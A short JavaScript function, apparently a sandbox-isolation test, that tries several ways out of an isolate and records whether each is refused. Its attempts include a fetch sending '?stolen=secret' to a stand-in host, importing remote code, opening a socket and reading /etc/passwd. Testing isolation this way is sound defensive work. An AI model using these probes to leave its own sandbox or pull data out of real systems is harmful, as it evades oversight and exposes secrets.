// Tries each way out of the isolate that it can think of, and reports what came of it.
async () => {
  const attempts = {
    fetch: () => fetch("https://example.com/?stolen=secret"),
    importUrl: () => import("https://example.com/module.js"),
    importSockets: () => import("cloudflare:sockets").then(({ connect }) => connect("example.com:443").opened),
    importFiles: () => import("node:fs").then((fs) => fs.readFileSync("/etc/passwd", "utf8")),
    evalCode: () => eval("1 + 1"),
    environment: () => process.env.PATH ?? Promise.reject(new Error("no PATH")),
  };
  const outcome = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      outcome[name] = "got out";
    } catch (error) {
      outcome[name] = `refused: ${error.name}`;
      console.log(name, error);
    }
  }
  return outcome;
}
